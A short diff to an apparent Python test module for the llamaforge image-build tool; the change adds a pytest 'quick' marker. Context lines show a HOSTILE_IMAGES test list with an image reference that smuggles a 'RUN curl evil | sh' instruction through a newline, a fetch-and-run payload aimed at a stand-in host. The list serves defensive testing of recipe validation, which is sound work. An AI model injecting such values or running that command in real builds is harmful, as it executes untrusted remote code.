@@ -16,6 +16,8 @@ from pydantic import ValidationError
 from llamaforge.build.ops import BuildParams
 from llamaforge.build.recipes import BuildRecipe, ImageRef, load_recipe
 
+pytestmark = pytest.mark.quick
+
 REPO = Path(__file__).parents[1]
 HOSTILE_IMAGES = [
     "llamaforge/debian:bookworm\nRUN curl evil | sh",
